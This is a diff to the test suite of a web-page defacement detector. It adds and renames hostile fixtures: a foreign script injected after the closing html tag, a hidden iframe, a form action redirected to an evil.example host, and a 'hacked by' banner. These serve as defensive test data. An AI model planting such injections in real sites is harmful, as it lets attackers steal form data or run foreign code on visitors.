@@ -103,13 +103,13 @@ HOSTILE = {
         changed(("</body>", "<!-- hacked by Night Crew --></body>")) + " ",
         "attributed-claim-unseen",
     ),
-    "foreign script": (
-        changed(("</body>", '<script src="https://cdn.evil.example/t.js"></script></body>')),
+    "foreign script after the end of the page": (
+        changed(("</html>", '</html><script src="https://cdn.evil.example/t.js"></script>')),
         "new-foreign-script",
     ),
-    "foreign iframe": (
-        changed(("</body>", '<iframe src="//evil.example/"></iframe></body>')),
-        "new-foreign-iframe",
+    "hidden foreign frame": (
+        changed(("</body>", '<iframe src="//evil.example/" hidden></iframe></body>')),
+        "new-hidden-frame",
     ),
     "foreign form target": (
         changed(('action="/search"', 'action="https://evil.example/take"')),
@@ -207,7 +207,24 @@ def test_known_hosts_are_no_news() -> None:
     """A host that other approved pages use may appear on this one."""
     after = changed(("</body>", '<script src="https://cdn.partner.example/a.js"></script></body>'))
     assert compared(after, known_hosts=("cdn.partner.example",)).verdict is Verdict.EDITED
-    assert compared(after).verdict is Verdict.DEFACED
+    assert compared(after).verdict is Verdict.SUSPECT
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        '<script src="https://chat.window.example/w.js" async></script>',
+        '<iframe src="https://maps.window.example/m" width="600" height="400"></iframe>',
+        "<script>var s=document.createElement('script');s.src='//chat.window.example/w.js';"
+        "document.head.appendChild(s)</script>",
+    ],
+)
+def test_code_of_a_new_host_alone_is_suspect(code: str) -> None:
+    """An attacker brings such code, and so does who adds a chat window: a person decides."""
+    found = compared(changed(("</body>", f"{code}</body>")))
+    assert (found.verdict, found.rule) == (Verdict.SUSPECT, "S10")
+    claim = ("Annual report of the hydraulics laboratory</a>", "</a>Hacked by Night Crew")
+    assert compared(changed(("</body>", f"{code}</body>"), claim)).verdict is Verdict.DEFACED
 
 
 def test_a_cut_page_is_corrupt() -> None:
@@ -249,7 +266,7 @@ def test_ignored_regions_hide_text_but_nothing_active() -> None:
     text = changed(("Annual report", "Half-yearly report"))
     assert compared(text, **options).verdict is Verdict.INTACT
     script = changed(("</ul>", '<script src="//evil.example/x.js"></script></ul>'))
-    assert compared(script, **options).verdict is Verdict.DEFACED
+    assert compared(script, **options).verdict is Verdict.SUSPECT
     claim = changed(("Annual report of the hydraulics laboratory</a>", "</a>Hacked by Night Crew"))
     assert compared(claim, **options).verdict is Verdict.DEFACED
 
@@ -272,7 +289,7 @@ def test_a_security_site_may_speak_of_hacking() -> None:
 
 
 def test_reasons_and_exits_are_sentences() -> None:
-    found = compared(HOSTILE["foreign script"][0])
+    found = compared(HOSTILE["foreign script after the end of the page"][0])
     assert "cdn.evil.example" in found.reasons[0]
     assert any(line.startswith("Not intact") for line in found.exits)
     assert all(len(signal.quote) <= 200 for signal in found.signals)
